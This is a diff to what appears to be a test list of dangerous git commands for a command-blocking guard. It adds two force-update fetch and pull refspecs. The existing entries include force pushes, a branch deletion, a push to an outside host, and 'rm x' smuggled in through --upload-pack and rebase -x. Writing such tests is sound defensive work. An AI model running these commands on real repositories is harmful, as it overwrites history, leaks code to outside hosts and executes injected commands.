@@ -210,6 +210,8 @@ const attacks: readonly Call[] = [
   "git push --force",
   "git push origin +main",
   "git push origin :main",
+  "git fetch origin +main:main",
+  "git pull origin +refs/heads/*:refs/heads/*",
   "git push https://example.com/x main",
   "git fetch --upload-pack='rm x' origin",
   "git rebase -x 'rm x' main",
